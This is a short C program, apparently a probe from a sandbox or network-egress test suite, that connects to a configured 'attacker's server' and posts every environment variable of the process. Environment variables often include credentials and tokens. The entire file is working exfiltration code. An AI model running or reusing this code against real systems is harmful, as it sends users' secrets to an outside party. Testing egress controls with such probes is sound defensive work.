/* curl-exfil: connect to the attacker's server and send the environment. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "targets.h"

extern char **environ;

int main(int argc, char **argv)
{
	struct sockaddr_in sa = {.sin_family = AF_INET};
	int fd;

	targets_load(argc, argv);
	sa.sin_port = htons((unsigned short)atoi(target("T_TCP_PORT")));
	inet_pton(AF_INET, target("T_TCP_HOST"), &sa.sin_addr);
	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		perror("connect");
		return 1;
	}
	dprintf(fd, "POST /upload HTTP/1.0\r\n\r\n");
	for (char **e = environ; *e; e++)
		dprintf(fd, "%s\n", *e);
	close(fd);
	return 0;
}
